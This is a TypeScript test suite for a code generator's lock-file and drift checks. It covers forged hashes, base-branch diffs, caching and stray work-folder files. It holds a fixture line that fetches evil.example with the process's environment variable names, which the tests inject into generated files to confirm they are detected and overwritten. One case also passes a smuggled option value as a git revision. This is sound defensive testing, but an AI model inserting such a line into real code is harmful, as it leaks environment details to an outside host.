import { execFileSync } from "node:child_process";
import { cpSync, mkdtempSync, realpathSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type Plain, shop } from "../compare/cases/changed-documents.js";
import { hashContent } from "../../generator/write/content-hash.js";
import { Project } from "./project.js";

// An author who can change a file of a repository can change the lock beside it.

let project: Project;

beforeEach(() => {
  project = new Project();
  put();
  configure({ keepDocument: true });
});

afterEach(() => project.remove());

const lockPath = "src/speclathe.lock.json";
const evil = 'fetch("https://evil.example/?" + Object.keys(process.env));\n';

interface LockText {
  files: Record<string, string>;
  names: Record<string, string>;
  documentHash: string;
  [more: string]: unknown;
}

function configure(more: object): void {
  const config = { input: "api.json", output: "src", ...more };
  project.put("speclathe.config.json", JSON.stringify(config));
}

function put(change: (document: Plain) => void = () => undefined): void {
  const document = structuredClone(shop) as Plain;
  change(document);
  project.put("api.json", JSON.stringify(document));
}

function removeMember(document: Plain): void {
  const { properties } = document["components"]!["schemas"]!["Order"]!;
  delete properties!["comment"];
}

function editLock(change: (lock: LockText) => void): void {
  const lock = JSON.parse(project.text(lockPath)) as LockText;
  change(lock);
  project.put(lockPath, JSON.stringify(lock, undefined, 2) + "\n");
}

/** Puts code into a file of the output, and its hash into the lock. */
function forge(path = "runtime/http/connect.ts", text?: string): void {
  const forged = text ?? project.text(`src/${path}`) + evil;
  project.put(`src/${path}`, forged);
  editLock(({ files }) => {
    files[path] = hashContent(forged);
  });
}

/** Another machine has the files, and remembers nothing. */
function checkOut(): void {
  rmSync(project.cache, { recursive: true, force: true });
}

function git(...argv: string[]): void {
  const who = ["-c", "user.name=a", "-c", "user.email=a@example.com"];
  execFileSync("git", [...who, ...argv], { cwd: project.directory });
}

describe.each(["this machine", "another machine"])(
  "on %s, code in a generated file whose hash is in the lock",
  (where) => {
    beforeEach(async () => {
      await project.runWhole(["generate"]);
      forge();
      if (where === "another machine") checkOut();
    });

    it.each([
      ["check"],
      ["check", "--strict"],
      ["check", "--offline"],
      ["check", "--strict", "--diff"],
    ])("is drift: %s %s %s", async (...argv) => {
      const { exitCode, stdout } = await project.runWhole(argv);
      expect(exitCode).toBe(1);
      expect(stdout).toContain("    runtime/http/connect.ts  edited by hand\n");
      expect(stdout.includes(`-${evil}`)).toBe(argv.includes("--diff"));
    });

    it("is an edit, which generate refuses until it is forced", async () => {
      const run = await project.runWhole(["generate"]);
      expect(run.stdout).not.toContain("unchanged");
      expect(run).toMatchObject({ exitCode: 1 });
      expect(run.stderr).toContain("error output-edited");
      expect(run.stderr).toContain("       runtime/http/connect.ts: ");
      const forced = await project.runWhole(["generate", "--force"]);
      expect(forced.exitCode).toBe(0);
      expect(project.text("src/runtime/http/connect.ts")).not.toContain(evil);
      expect((await project.runWhole(["check", "--strict"])).exitCode).toBe(0);
    });

    it("is overwritten where the lock says that another version wrote it", async () => {
      editLock((lock) => {
        lock["generator"] = "0.0.1";
      });
      expect((await project.runWhole(["generate"])).exitCode).toBe(0);
      expect(project.text("src/runtime/http/connect.ts")).not.toContain(evil);
    });
  },
);

it("a file that the lock was taught is neither kept nor removed unasked", async () => {
  await project.runWhole(["generate"]);
  forge("mine.ts", "// mine\n");
  checkOut();
  expect((await project.runWhole(["check"])).stdout).toContain(
    "    mine.ts  edited by hand\n",
  );
  expect((await project.runWhole(["generate"])).exitCode).toBe(1);
  expect(project.text("src/mine.ts")).toBe("// mine\n");
});

describe("a new kept document, put into the lock with old types beside it", () => {
  beforeEach(async () => {
    await project.runWhole(["generate"]);
    git("init", "-q", "-b", "main");
    git("add", "-A");
    git("commit", "-qm", "a");
    const types = project.text("src/types.ts");
    const validators = project.text("src/validators.ts");
    put(removeMember);
    await project.runWhole(["generate"]);
    forge("types.ts", types);
    forge("validators.ts", validators);
    git("checkout", "-qb", "change");
    git("commit", "-qam", "b");
    checkOut();
  });

  it("is drift", async () => {
    for (const argv of [["check"], ["check", "--strict", "--diff"]]) {
      const { exitCode, stdout } = await project.runWhole(argv);
      expect(exitCode).toBe(1);
      expect(stdout).toContain("    types.ts  edited by hand\n");
    }
  });

  it("is not taken for what the output was made from", async () => {
    const run = await project.runWhole(["diff", "--fail-on", "breaking"]);
    expect(run).toEqual({
      exitCode: 1,
      stderr: "",
      stdout:
        "note the output is out of date with src's document, or was generated from another document; see `speclathe check`\n" +
        "src's document → api.json: no changes\n",
    });
    expect((await project.runWhole(["diff"])).exitCode).toBe(0);
  });

  it("does not hide what changed since the base branch", async () => {
    const argv = ["diff", "--base", "main"];
    for (const now of [[], ["lock", "lock"]]) {
      const failing = [...argv, ...now, "--fail-on", "breaking"];
      const { exitCode, stdout } = await project.runWhole(failing);
      expect(exitCode).toBe(1);
      expect(stdout).toContain("breaking Order.comment: was removed");
      expect(stdout).toContain("\nmain:src's document → ");
    }
    const check = await project.runWhole(["check", "--base", "main"]);
    expect(check.stdout).toContain("Order.comment: was removed");
  });
});

describe("the base", () => {
  const commit = (): void => {
    git("init", "-q", "-b", "main");
    git("add", "-A");
    git("commit", "-qm", "a");
  };

  it.each([true, false])(
    "is the document of the output in a revision, with its references and names; kept: %s",
    async (keepDocument) => {
      configure({ keepDocument });
      const component = { schemas: { Weight: { type: "number" } } };
      project.put("shared.json", JSON.stringify({ components: component }));
      put((document) => {
        const { properties } = document["components"]!["schemas"]!["Order"]!;
        properties!["weight"] = {
          $ref: "shared.json#/components/schemas/Weight",
        } as unknown as Plain;
      });
      await project.runWhole(["generate"]);
      commit();
      component.schemas.Weight.type = "string";
      project.put("shared.json", JSON.stringify({ components: component }));
      await project.runWhole(["generate"]);
      checkOut();
      const diff = await project.runWhole(["diff", "--base", "main"]);
      expect(diff.stdout).toContain("Weight: is string now, was number");
      const check = await project.runWhole(["check", "--base", "main"]);
      expect(check).toMatchObject({ exitCode: 0 });
      expect(check.stdout).toContain("Weight: is string now, was number");
    },
  );

  it("tells that a name in the lock was exchanged, which the output follows", async () => {
    await project.runWhole(["generate"]);
    commit();
    editLock(({ names }) => {
      names["#/components/schemas/Order"] = "Purchase";
    });
    await project.runWhole(["generate", "--force"]);
    checkOut();
    expect((await project.runWhole(["check", "--strict"])).exitCode).toBe(0);
    const diff = await project.runWhole(["diff", "--base", "main"]);
    expect(diff.stdout).toContain("type-renamed");
  });

  it.each([
    ["no revision", ["diff", "--base", "nowhere"], "revision-unreadable"],
    ["no revision", ["diff", "--base=--output=a"], "revision-unreadable"],
    ["no revision", ["check", "--base", "nowhere"], "revision-unreadable"],
    ["no output there", ["diff", "--base", "main"], "document-not-kept"],
    [
      "of a document that is no output's",
      ["diff", "api.json", "api.json", "--base", "main"],
      "option-invalid",
    ],
  ])("is refused: %s", async (_, argv, code) => {
    commit();
    await project.runWhole(["generate"]);
    expect((await project.runWhole(argv)).stderr).toContain(`error ${code}`);
  });
});

describe("a run with nothing to do", () => {
  const calls = (): number => project.calls.length;

  it("is one on the machine that made the output, or that is told to trust the lock", async () => {
    await project.run(["generate"]);
    await project.run(["generate"]);
    expect(calls()).toBe(1);
    checkOut();
    const trusting = await project.run(["generate", "--trust-lock"]);
    expect(trusting.stdout).toContain("✓ unchanged");
    expect(calls()).toBe(1);
    const again = await project.run(["generate"]);
    expect(again.stdout).toContain("✓ emitted");
    expect(calls()).toBe(2);
    await project.run(["generate"]);
    expect(calls()).toBe(2);
    await project.run(["generate", "--force"]);
    expect(calls()).toBe(3);
  });

  it("is none in a copy of the project, whatever came with it", async () => {
    project.put("node_modules/a", "");
    await project.run(["generate"]);
    const copy = realpathSync(mkdtempSync(join(tmpdir(), "speclathe-copy-")));
    cpSync(project.directory, copy, { recursive: true });
    await project.run(["generate"], { cwd: copy });
    expect(calls()).toBe(2);
    // As though it had always been there, the cache that came with it included.
    rmSync(project.directory, { recursive: true });
    cpSync(copy, project.directory, { recursive: true });
    await project.run(["generate"]);
    expect(calls()).toBe(3);
    rmSync(copy, { recursive: true });
  });

  it("lists the diagnostics of the run that made the output", async () => {
    const diagnostic = {
      code: "format-unknown",
      severity: "warning",
      pointer: "#/a",
      message: "b",
    };
    project.put(
      "api.json",
      JSON.stringify({
        openapi: "3.1.1",
        title: "A",
        diagnostics: [diagnostic],
      }),
    );
    configure({});
    for (const status of ["generated", "unchanged"]) {
      const { stdout } = await project.run(["generate", "--json"]);
      expect(JSON.parse(stdout)).toMatchObject({
        outputs: [{ status, diagnostics: [diagnostic] }],
      });
    }
  });
});

describe("a work folder that came with a repository", () => {
  it.each([
    ".speclathe/owner-1-1-1",
    ".speclathe/journal.json",
    ".speclathe/.gitignore",
    ".speclathe-1-abcdef/owner-1-1-1",
  ])("changes nothing, and is foreign: %s", async (path) => {
    await project.runWhole(["generate"]);
    checkOut();
    project.put(`src/${path}`, "*\n");
    expect((await project.runWhole(["check"])).exitCode).toBe(0);
    const strict = await project.runWhole(["check", "--strict"]);
    expect(strict.exitCode).toBe(1);
    expect(strict.stdout).toContain(`    ${path}  not generated\n`);
    const start = Date.now();
    expect((await project.runWhole(["generate"])).exitCode).toBe(0);
    expect(Date.now() - start).toBeLessThan(10_000);
  });
});

it.each([".speclathe.ts", ".speclathex/a.ts", ".gitignore", "deep/.a"])(
  "a strict check sees %s",
  async (path) => {
    await project.run(["generate"]);
    project.put(`src/${path}`, "mine\n");
    const { exitCode, stdout } = await project.run(["check", "--strict"]);
    expect(exitCode).toBe(1);
    expect(stdout).toContain(`    ${path}  not generated\n`);
  },
);
